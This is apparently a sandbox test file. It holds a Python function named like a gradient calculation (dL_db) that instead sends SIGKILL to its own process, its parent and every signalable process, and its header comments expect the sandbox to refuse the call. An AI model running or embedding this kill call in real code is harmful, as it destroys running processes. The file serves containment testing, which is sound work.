"""Kills itself and whoever it may."""

# status: failed
# proof: refused: .*(not permitted|denied|No such file|Read-only|not implemented|new thread)
# never: it went through

import os


def dL_db(x1, x2, y, w1, w2, b):
    try:
        [os.kill(pid, 9) for pid in (os.getpid(), os.getppid(), -1)]
        print("it went through")
    except OSError as error:
        print("refused:", error)
    return 0.25
